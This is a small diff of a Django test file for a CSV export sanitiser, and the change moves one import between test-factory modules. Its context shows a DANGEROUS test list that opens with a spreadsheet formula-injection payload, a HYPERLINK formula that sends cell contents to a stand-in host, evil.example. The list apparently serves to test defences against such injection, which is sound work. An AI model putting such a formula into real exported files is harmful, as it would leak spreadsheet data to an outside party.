@@ -7,8 +7,8 @@ import pytest
 from django.urls import reverse
 
 from cohorts.csv_export import spreadsheet_safe, stream_csv
-from tests.factories import make_bank, make_exam, make_user
-from tests.test_cohort_factories import bulk_history, make_cohort, make_lead, take
+from tests.factories import make_bank, make_exam, make_user, take
+from tests.test_cohort_factories import bulk_history, make_cohort, make_lead
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
